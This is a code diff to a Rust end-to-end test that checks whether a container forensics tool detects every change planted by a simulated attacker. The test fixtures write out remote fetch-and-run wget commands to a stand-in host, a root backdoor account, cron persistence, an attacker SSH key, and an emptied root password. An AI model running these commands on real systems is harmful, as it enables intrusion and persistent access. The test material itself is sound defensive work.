@@ -2,23 +2,21 @@
 //! changes podman cannot see, named here), the findings name every planted change, every image
 //! input form gives the same result, and a tampered bundle is refused unless `--force`.
 
+use crate::attack::DROPPER;
 use crate::podman::{Container, Image, podman};
 use crate::util::*;
 use serde_json::Value;
 use std::collections::BTreeSet;
 use std::path::Path;
 
-/// The dropped payload.
-const DROPPER: &str = "#!/bin/sh\nwget -q -O- http://203.0.113.7/stage2 | sh\n";
 /// The replaced program (a different size and time than the image's).
 const REPORT_TROJAN: &str = "#!/bin/sh\nwget -q -O- http://203.0.113.7/x | sh; echo report\n";
-/// The node-side change to the image's layer: root's password emptied.
-const SHADOW_ON_NODE: &str = "root::19000:0:99999:7:::\napp:!:19000:0:99999:7:::\n";
 
 /// What the attacker does inside the container.
 fn attack(c: &Container) {
+    let dropper = std::str::from_utf8(DROPPER).unwrap();
     c.sh(&format!(
-        "printf '%s' '{DROPPER}' > /tmp/dropper.sh && chmod 755 /tmp/dropper.sh \
+        "printf '%s' '{dropper}' > /tmp/dropper.sh && chmod 755 /tmp/dropper.sh \
          && echo 'backdoor:x:0:0::/root:/bin/sh' >> /etc/passwd \
          && rm /etc/motd \
          && cp -p /etc/group /tmp/.ref && printf 'root:x:0:\\napp:x:1001:\\n' > /etc/group \
@@ -29,14 +27,6 @@ fn attack(c: &Container) {
          && echo '* * * * * /tmp/dropper.sh' > /var/spool/cron/crontabs/root \
          && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil attacker@203.0.113.7' > /home/app/.ssh/authorized_keys"
     ));
-}
-
-/// Changes the image's layer on the node, from the host: what podman diff cannot see.
-fn tamper_node_layer(c: &Container) {
-    let o = podman(&["inspect", "--format", "{{.GraphDriver.Data.LowerDir}}", &c.name]);
-    let lower = String::from_utf8_lossy(&o.stdout).trim().to_string();
-    let top = lower.split(':').next().unwrap();
-    std::fs::write(Path::new(top).join("etc/shadow"), SHADOW_ON_NODE).unwrap();
 }
 
 /// `forensic diff BUNDLE ARGS --json`: exit code and JSON.
@@ -172,7 +162,7 @@ fn diff_equals_podman_diff_and_names_every_planted_change() {
     }
     let container = Container::start(&image, &format!("forensic-e2e-{tag}"));
     attack(&container);
-    tamper_node_layer(&container);
+    crate::attack::tamper_lower_layer(container.pid());
     let podman_diff = container.diff();
 
     let (key, _) = keygen(w, "responder");
